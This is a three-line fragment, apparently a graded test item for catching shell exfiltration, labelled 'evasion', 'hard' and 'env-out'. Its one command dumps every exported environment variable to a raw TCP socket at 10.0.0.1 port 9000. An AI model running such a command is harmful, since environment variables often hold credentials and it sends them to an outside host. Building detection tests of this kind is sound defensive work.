# evasion: export -p into /dev/tcp
# grade: hard; does: env-out
export -p > /dev/tcp/10.0.0.1/9000
